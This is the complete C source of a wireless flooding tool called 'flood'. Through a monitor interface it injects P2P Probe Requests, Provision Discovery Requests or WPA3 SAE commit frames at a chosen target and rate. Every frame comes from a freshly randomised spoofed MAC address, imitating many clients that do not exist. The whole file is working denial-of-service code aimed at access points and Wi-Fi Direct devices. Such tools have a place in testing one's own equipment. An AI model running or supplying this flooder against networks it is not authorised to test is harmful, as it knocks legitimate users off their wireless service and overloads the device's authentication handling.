/* A crowd that does not exist: Probe Requests for P2P groups and Provision Discovery Requests from addresses made up for
 * each frame, sent through a monitor interface.
 *   flood INTERFACE TARGET FRAMES_PER_SECOND [sae]
 * With "sae" commits of SAE instead, whose scalars are random and whose element is the generator of P-256. Ends when it is killed, and
 * then says how many frames a second it was. */
#include <linux/if_packet.h>
#include <signal.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <arpa/inet.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

static const uint8_t radiotap[] = { 0, 0, 8, 0, 0, 0, 0, 0 };
static const uint8_t broadcast[6] = { 255, 255, 255, 255, 255, 255 };
/* SSID "DIRECT-", rates, P2P: Capability. */
static const uint8_t probe[] = { 0, 7, 'D', 'I', 'R', 'E', 'C', 'T', '-', 1, 8, 12, 18, 24, 36, 48, 72, 96, 108,
    221, 9, 0x50, 0x6f, 0x9a, 9, 2, 2, 0, 0x25, 0 };
/* Public action, P2P, Provision Discovery Request, token; WPS: Config Methods push button. */
static const uint8_t discovery[] = { 4, 9, 0x50, 0x6f, 0x9a, 9, 7, 1, 221, 10, 0, 0x50, 0xf2, 4, 0x10, 8, 0, 2, 0, 0x80 };

/* Authentication: SAE, commit, status 0; group 19, scalar, x and y. */
static uint8_t commit[6 + 2 + 32 + 64] = { 3, 0, 1, 0, 0, 0, 19, 0 };
static const uint8_t generator[64] = {
    0x6b, 0x17, 0xd1, 0xf2, 0xe1, 0x2c, 0x42, 0x47, 0xf8, 0xbc, 0xe6, 0xe5, 0x63, 0xa4, 0x40, 0xf2,
    0x77, 0x03, 0x7d, 0x81, 0x2d, 0xeb, 0x33, 0xa0, 0xf4, 0xa1, 0x39, 0x45, 0xd8, 0x98, 0xc2, 0x96,
    0x4f, 0xe3, 0x42, 0xe2, 0xfe, 0x1a, 0x7f, 0x9b, 0x8e, 0xe7, 0xeb, 0x4a, 0x7c, 0x0f, 0x9e, 0x16,
    0x2b, 0xce, 0x33, 0x57, 0x6b, 0x31, 0x5e, 0xce, 0xcb, 0xb6, 0x40, 0x68, 0x37, 0xbf, 0x51, 0xf5,
};

static volatile sig_atomic_t over;

static void end(int number)
{
    (void)number;
    over = 1;
}

static double now(void)
{
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return time.tv_sec + time.tv_nsec / 1e9;
}

static size_t frame(uint8_t *out, uint8_t type, const uint8_t *to, const uint8_t *body, size_t length)
{
    size_t at = sizeof radiotap;
    memcpy(out, radiotap, at);
    out[at++] = type;
    memset(out + at, 0, 3);
    at += 3;
    memcpy(out + at, to, 6);
    for (int i = 0; i < 6; i++)
        out[at + 6 + i] = rand();
    out[at + 6] = (out[at + 6] & 0xfc) | 2;
    memcpy(out + at + 12, to, 6);
    at += 18;
    out[at++] = 0;
    out[at++] = 0;
    memcpy(out + at, body, length);
    return at + length;
}

int main(int argc, char **argv)
{
    uint8_t target[6], buffer[256];
    int sae = argc == 5 && strcmp(argv[4], "sae") == 0;
    if (argc != 4 + sae || sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &target[0], &target[1], &target[2], &target[3],
                         &target[4], &target[5]) != 6) {
        fprintf(stderr, "usage: flood INTERFACE TARGET FRAMES_PER_SECOND [sae]\n");
        return 2;
    }
    struct sockaddr_ll address = { .sll_family = AF_PACKET, .sll_ifindex = if_nametoindex(argv[1]) };
    int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
    if (fd < 0 || bind(fd, (struct sockaddr *)&address, sizeof address) < 0) {
        perror(argv[1]);
        return 1;
    }
    signal(SIGTERM, end);
    memcpy(commit + 40, generator, sizeof generator);
    struct timespec pause = { 0, 1000000L };
    double begin = now(), rate = atoi(argv[3]);
    unsigned n = 0;
    for (; !over; n++) {
        for (int i = 0; i < 32; i++)
            commit[8 + i] = rand() >> 8;
        commit[8] &= 0x7f;
        size_t length = sae ? frame(buffer, 0xb0, target, commit, sizeof commit) : n % 2 ? frame(buffer, 0x40, broadcast, probe, sizeof probe)
                              : frame(buffer, 0xd0, target, discovery, sizeof discovery);
        if (send(fd, buffer, length, 0) < 0)
            perror("send");
        /* A sleep takes longer than it is told to: what was missed is made up for. */
        while (!over && n / (now() - begin) > rate)
            nanosleep(&pause, NULL);
    }
    printf("%u frames, %.0f a second\n", n, n / (now() - begin));
    return 0;
}
